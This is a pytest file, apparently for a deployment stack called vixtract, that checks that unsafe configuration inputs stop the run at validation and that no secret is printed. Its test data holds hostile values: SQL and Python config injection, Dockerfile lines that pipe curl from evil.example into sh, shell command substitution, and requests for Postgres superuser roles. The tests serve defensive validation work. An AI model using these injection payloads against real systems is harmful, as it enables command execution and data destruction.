"""Input that would reach SQL, Python, a shell, a Dockerfile or a line-based file unquoted, names and roles that
would give someone the stack's or the system's powers, and bad secrets: each stops the run in the validation play,
naming the variable, and the output never contains a secret (also with -vvv)."""
import pytest
from conftest import assert_stopped_in_validation

SECRET = "S3cret-never-shown"
USERS = [{"name": "anna.k", "admin": True, "postgres": True, "cronicle": True}, {"name": "bi"}]
CRONICLE = {"cronicle_archive_src": "/etc/hostname", "cronicle_version": "0.9.106", "cronicle_nodejs_source": "debian"}

BAD_INPUTS = {
    "a name with a trailing newline": (
        {"vixtract_users": [{"name": "alice\n", "password": SECRET}]},
        "vixtract_users: the user 'alice\\\\n' is not a valid login name"),
    "Cronicle's own admin as a user": (
        {"vixtract_users": [{"name": "admin", "password": SECRET}]},
        "vixtract_users: the user 'admin' takes a name that belongs to the system or to the stack's own"),
    "the writer role as a user": (
        {"vixtract_users": [{"name": "etl_writer"}]},
        "vixtract_users: the user 'etl_writer' takes a name that belongs to the system"),
    "the reader role as a user": (
        {"vixtract_users": [{"name": "bi_reader"}]},
        "vixtract_users: the user 'bi_reader' takes a name that belongs to the system"),
    "the shared library group as a user": (
        {"vixtract_users": [{"name": "vixtract-lib"}]},
        "vixtract_users: the user 'vixtract-lib' takes a name"),
    "a system account as a user": (
        {"vixtract_users": [{"name": "backup"}]},
        "vixtract_users: the user 'backup' takes a name"),
    "an empty password": (
        {"vixtract_users": [{"name": "anna.k", "password": ""}]},
        "vixtract_users: the user 'anna.k': its password is shorter than 8 characters"),
    "a password with a newline (a second chpasswd line)": (
        {"vixtract_users": [{"name": "anna.k", "password": SECRET + "\nalice:pwned"}]},
        "vixtract_users: the user 'anna.k': its password contains a control character"),
    "a database name that is SQL": (
        {"vixtract_postgres_database": 'etl"; DROP DATABASE postgres; --'},
        "vixtract_postgres_database \"etl\\\"; DROP DATABASE postgres; --\" must be a plain identifier"),
    "a writer role that is not an identifier": (
        {"vixtract_postgres_writer": "Etl Writers"},
        "vixtract_postgres_writer \"Etl Writers\" must be a plain identifier"),
    "a reader role equal to the writer": (
        {"vixtract_postgres_reader": "etl_writer"},
        "vixtract_postgres_database, vixtract_postgres_writer and vixtract_postgres_reader must differ"),
    "a default URL that breaks out of the Python config": (
        {"jupyterhub_default_url": '/lab"\nimport os; os.system("id")\n#'},
        "jupyterhub_default_url \"/lab\\\"\\nimport os; os.system(\\\"id\\\")\\n#\" must be a URL path"),
    "a time zone that adds a Dockerfile line": (
        {"cronicle_timezone": "UTC\nRUN curl http://evil.example/x | sh", **CRONICLE},
        "cronicle_timezone \"UTC\\nRUN curl http://evil.example/x | sh\" must be an IANA time zone name"),
    "an ACME e-mail that runs a command when sourced": (
        {"vixtract_tls_mode": "acme", "vixtract_acme_email": "ops@example.com$(touch /tmp/pwned)"},
        "vixtract_tls_mode 'acme' needs vixtract_acme_email"),
    "an ACME directory with a quote": (
        {"vixtract_tls_mode": "acme", "vixtract_acme_email": "ops@example.com",
         "vixtract_acme_directory": 'https://acme.example.com/dir";touch /tmp/pwned;"'},
        "vixtract_tls_mode 'acme' needs vixtract_acme_email"),
    "a proxy URL with a quote and a command": (
        {"vixtract_https_proxy": 'http://proxy:3128"; touch /tmp/pwned; "'},
        "vixtract_https_proxy \"http://proxy:3128\\\"; touch /tmp/pwned; \\\"\" must be empty or a URL"),
    "a no-proxy list with a space": (
        {"vixtract_no_proxy": "localhost, $(id)"},
        "vixtract_no_proxy \"localhost, $(id)\" must be a comma-separated list"),
    "an npm release that runs a command in the image builds": (
        {"vixtract_npm_version": "10.9.9 /tmp/x; curl http://evil.example/x | sh; echo"},
        "vixtract_npm_version must be an npm release number such as 10.9.9 (got \"10.9.9 /tmp/x; curl"),
    "a configurable-http-proxy release that adds a Dockerfile line": (
        {"jupyterhub_configurable_http_proxy_version": "5.3.0\nRUN curl http://evil.example/x | sh"},
        "jupyterhub_configurable_http_proxy_version must be a configurable-http-proxy release number such as 5.3.0"
        " (got \"5.3.0\\nRUN curl"),
    "root as an LDAP admin": (
        {"vixtract_ldap_enabled": True, "vixtract_ldap_host": "ldap.example.org",
         "vixtract_ldap_bind_dn_templates": ["uid={username},ou=people,dc=example,dc=org"],
         "vixtract_ldap_admin_users": ["root"]},
        "vixtract_ldap_admin_users: \"root\" is not a login name the stack accepts"),
    "a login role that is a superuser": (
        {"postgres_roles": [{"name": "etl_admin", "attributes": "SUPERUSER", "password": SECRET}]},
        "postgres_roles: 'etl_admin' asks for attributes \"SUPERUSER\""),
    "a login role in the postgres role": (
        {"postgres_roles": [{"name": "etl_admin", "member_of": ["postgres"], "password": SECRET}]},
        "postgres_roles: 'etl_admin' asks for attributes \"\" and membership in [\"postgres\"]"),
    "a login role that may run programs on the server": (
        {"postgres_roles": [{"name": "etl_admin", "member_of": ["pg_execute_server_program"]}]},
        "membership in [\"pg_execute_server_program\"]"),
    "a login role named like a pg_ role": (
        {"postgres_roles": [{"name": "pg_admin"}]},
        "postgres_roles: the name \"pg_admin\" is not allowed"),
    "a login role with a newline in its password": (
        {"postgres_roles": [{"name": "loader", "password": SECRET + "\nx"}]},
        "postgres_roles: the password of loader contains a control character"),
    "a short superuser password": (
        {"postgres_superuser_password": "short"},
        "postgres_superuser_password is shorter than 8 characters"),
    "a Cronicle admin password with a newline": (
        {"cronicle_admin_password": SECRET + "\n", **CRONICLE},
        "cronicle_admin_password contains a control character"),
}


@pytest.mark.parametrize("case", sorted(BAD_INPUTS))
def test_bad_input_stops_in_validation_and_shows_no_secret(run_site, case):
    extra_vars, message = BAD_INPUTS[case]
    extra_vars = dict({"vixtract_users": USERS}, **extra_vars)
    rc, out = run_site(extra_vars, verbose=True)
    assert_stopped_in_validation(rc, out.replace("\\\\", "\\"), message.replace("\\\\", "\\"))
    assert SECRET not in out, "a secret was printed"


def test_a_password_of_a_valid_user_is_never_printed_when_another_check_fails(run_site):
    """Validation of one entry fails; the passwords of the others, in the same list, appear nowhere (-vvv)."""
    users = [{"name": "anna.k", "password": SECRET}, {"name": "Bad Name", "password": SECRET + "2"}]
    rc, out = run_site({"vixtract_users": users, "postgres_roles": [{"name": "loader", "password": SECRET + "3"},
                                                                    {"name": "x y", "password": SECRET + "4"}]},
                       verbose=True)
    assert_stopped_in_validation(rc, out, "vixtract_users: the user 'Bad Name' is not a valid login name")
    assert SECRET not in out
